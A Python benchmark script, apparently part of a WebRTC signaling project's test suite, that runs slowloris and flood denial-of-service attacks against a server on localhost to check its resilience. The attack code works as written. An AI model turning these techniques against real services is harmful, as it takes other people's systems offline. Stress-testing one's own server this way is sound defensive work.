"""
Attack a signaling server with headers that never end, or with as much data as possible.

The attacker runs at nice 19, because a real one has a machine of its own.
"""

import argparse
import asyncio
import contextlib
import os
import sys

from benchmark.programs.signaling.raw_peers import UPGRADE, frame
from webrtc_bridge.program.lifetime import run

CONNECTIONS = {'slowloris': 500, 'flood': 20}
PAUSE = 0.05
'Seconds before a closed connection is opened again.'

HEADER = UPGRADE.format(path='/receiver', host='localhost', more='')
BYTE_EACH = 0.5
JUNK = frame(b'{"type":"candidate","sender_id":"front","candidate":{"candidate":"x"}}') * 50
HUGE = b'\x81\xff' + (1 << 20).to_bytes(8, 'big') + bytes(4) + b'x' * (1 << 20)


async def slowloris(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
    """Send a header that takes longer than any server waits."""
    for byte in HEADER.encode():
        writer.write(bytes([byte]))
        await writer.drain()
        await asyncio.sleep(BYTE_EACH)


async def flood(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
    """Register, and send messages that the server must refuse, without reading its answers."""
    writer.write(HEADER.encode())
    await reader.readuntil(b'\r\n\r\n')
    for number in range(1_000_000):
        writer.write(HUGE if number % 20 == 19 else JUNK)
        await writer.drain()


ATTACKS = {'slowloris': slowloris, 'flood': flood}


async def attack(name: str, port: int) -> None:
    """Attack until cancelled."""

    async def repeat() -> None:
        while True:
            with contextlib.suppress(OSError, EOFError):
                reader, writer = await asyncio.open_connection('127.0.0.1', port)
                with contextlib.closing(writer):
                    await ATTACKS[name](reader, writer)
            await asyncio.sleep(PAUSE)

    print('attacking', flush=True)
    await asyncio.gather(*(repeat() for _ in range(CONNECTIONS[name])))


def main() -> int:
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument('--attack', choices=ATTACKS, required=True)
    parser.add_argument('--port', type=int, required=True)
    options = parser.parse_args()
    os.nice(19)
    return run(lambda: attack(options.attack, options.port))


if __name__ == '__main__':
    sys.exit(main())
